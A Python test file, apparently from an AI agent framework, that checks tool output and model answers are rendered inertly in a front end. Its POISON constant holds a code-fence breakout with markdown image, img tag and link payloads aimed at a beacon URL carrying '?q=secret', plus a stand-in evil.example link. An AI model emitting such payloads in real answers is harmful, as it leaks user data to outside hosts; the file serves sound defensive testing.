"""Answers in a front end: tool output is rendered as code, and no content loads from or links to other sites."""

from markdown_it import MarkdownIt
from support.graphs import run_once, session
from support.notebook import Notebook
from support.prompts import NO_TOOL, call
from support.scripted_deciders import call as selected
from support.scripted_deciders import scripted
from support.scripted_openai import ScriptedOpenAI

from packetgate.deciders.protocols import Deciders

BEACON = "http://127.0.0.1:9/beacon.png"
POISON = f'{{"a": 1,\n "b": 2}}\n```\n![x]({BEACON}?q=secret) <img src="{BEACON}">\n[y]: {BEACON}'
READ_A = selected("notebook.read_note", name="a")
GFM = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def loaded(markdown: str) -> list[str]:
    """Return the parts of a rendered text that load resources, and its HTML and links."""
    tokens = [inner for token in GFM.parse(markdown) for inner in (token, *(token.children or ()))]
    return [token.type for token in tokens if token.type in {"image", "link_open", "html_inline", "html_block"}]


async def test_tool_output_is_one_code_block_and_plain_text_in_a_terminal():
    packet = await run_once(scripted(READ_A), "Read note a", Notebook(a=POISON))
    kinds = [token.type for token in GFM.parse(packet.messages[-1].text)]
    assert kinds == ["paragraph_open", "inline", "paragraph_close", "fence"]
    assert packet.messages[-1].text == f"notebook.read_note (name=a):\n````\n{POISON}\n````"
    assert packet.response.candidate == f"notebook.read_note (name=a):\n{POISON}"


async def test_a_models_answer_is_inert_complete_or_streamed(by_model: Deciders, scripted_openai: ScriptedOpenAI):
    answer = f"It says ![x]({BEACON}?q=secret), see https://evil.example, https://docs.example/a and ```x```."
    inert = (
        "It says ![x] (http[:]//127.0.0.1:9/beacon.png?q=secret), see https[:]//evil.example, "
        "https://docs.example/a and ```x```."
    )
    scripted_openai.script(NO_TOOL, "Well.", call("notebook.read_note", name="a"), NO_TOOL, answer)
    async with session(by_model, Notebook(a=POISON)) as talk:
        await talk.stream("My page is https://docs.example/a")
        turn = await talk.stream("Read note a")
    assert turn.shown == {turn.packet.messages[-1].id: inert}
    assert len(turn.chunks) > 3
    text = turn.packet.messages[-1].text
    assert text.startswith(inert)
    assert turn.packet.response.candidate.startswith(inert)
    assert loaded(text) == []


async def test_tool_output_and_a_model_that_repeats_it_load_nothing(
    by_model: Deciders, scripted_openai: ScriptedOpenAI
):
    assert {"image", "html_inline"} <= {*loaded(f"![x]({BEACON}) <img src='{BEACON}'>")}
    for deciders in (by_model, scripted(READ_A)):
        scripted_openai.script(call("notebook.read_note", name="a"), POISON)
        packet = await run_once(deciders, "Read note a", Notebook(a=POISON))
        assert loaded(packet.messages[-1].text) == []
